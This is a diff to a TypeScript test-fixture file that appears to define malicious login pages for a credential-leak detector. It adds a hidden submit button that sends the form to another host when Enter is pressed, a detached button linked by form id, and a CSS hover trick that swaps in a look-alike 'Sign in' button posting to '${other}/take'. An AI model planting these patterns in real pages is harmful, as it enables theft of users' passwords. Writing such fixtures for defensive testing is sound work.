@@ -51,6 +51,32 @@ export const SUBMISSIONS: readonly Leak[] = [
   },
 ];
 
+/** Pages without any script whose form goes elsewhere by the button that is pressed. */
+export const BUTTONS: readonly Leak[] = [
+  {
+    name: 'a hidden button before all others sends to another site, and Enter takes it',
+    own: ({ other }) => page(loginForm(`<button formaction="${other}/take" style="display:none"></button>`)),
+    how: 'form',
+  },
+  {
+    name: 'a hidden button elsewhere in the document belongs to the form, and Enter takes it',
+    own: ({ other }) =>
+      page(`<button form="login" formaction="${other}/take" hidden></button>${loginForm(' ', 'id="login"')}`),
+    how: 'form',
+  },
+];
+
+/** Pages whose honest button is there, but not where it is pressed. They go by it, or not at all. */
+export const MOVED: readonly Omit<Leak, 'how'>[] = [
+  {
+    name: 'another button is under the pointer as soon as that is there (:hover)',
+    own: ({ other }) =>
+      page(`<style>.both { position: relative; height: 40px } .both button { position: absolute; width: 100px; height: 40px }
+        .both button + button { visibility: hidden } .both:hover button { visibility: hidden } .both:hover button + button { visibility: visible }</style>
+        ${loginForm(`<div class="both"><button id="send">Sign in</button><button formaction="${other}/take">Sign in</button></div>`)}`),
+  },
+];
+
 /** All that a script can send a copy with, each in a writing of its own. The login itself is honest. */
 export const copies = ({ other }: Places): string => `<script>
   const to = (n) => '${other}/take/' + n;
